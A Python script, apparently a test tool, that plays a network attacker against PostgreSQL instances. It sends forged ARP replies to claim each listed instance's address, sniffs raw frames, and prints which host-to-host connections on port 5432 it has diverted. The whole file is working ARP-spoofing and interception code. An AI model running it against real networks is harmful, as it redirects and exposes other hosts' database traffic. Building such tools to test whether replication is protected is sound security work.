"""An attacker on the network of the clients: takes the address of each instance by false ARP replies, and prints what arrives.

`spoof.py SECONDS ADDRESS...`, in a container with CAP_NET_RAW. Prints one line `FROM -> TO` for each segment to PostgreSQL's
port that came from the address of an instance: replication, or anything else that was meant for another instance.
"""

import socket
import struct
import sys
import time

PORT = 5432
ARP, IP, TCP = 0x0806, 0x0800, 6
BROADCAST = b"\xff" * 6


def main(seconds, addresses):
    """Lies and listens for that time."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind(("eth0", 0))
    wire.settimeout(0.1)
    mine = wire.getsockname()[4]
    known = {socket.inet_aton(address) for address in addresses}
    lies = [
        BROADCAST + mine + struct.pack("!HHHBBH", ARP, 1, IP, 6, 4, 2) + mine + victim + BROADCAST + liar
        for victim in known
        for liar in known
        if victim != liar
    ]
    until, next_lies, heard = time.monotonic() + seconds, 0.0, set()
    print("lying", flush=True)
    while time.monotonic() < until:
        if time.monotonic() >= next_lies:
            next_lies = time.monotonic() + 0.2
            for lie in lies:
                wire.send(lie)
        try:
            frame = wire.recv(65535)
        except TimeoutError:
            continue
        source, target, protocol = frame[26:30], frame[30:34], frame[23:24]
        if frame[:6] != mine or struct.unpack("!H", frame[12:14]) != (IP,) or protocol != bytes([TCP]):
            continue
        start = 14 + (frame[14] & 15) * 4
        (port,) = struct.unpack("!H", frame[start + 2 : start + 4])
        if port == PORT and source in known and (source, target) not in heard:
            heard.add((source, target))
            print(f"{socket.inet_ntoa(source)} -> {socket.inet_ntoa(target)}", flush=True)


if __name__ == "__main__":
    main(float(sys.argv[1]), sys.argv[2:])
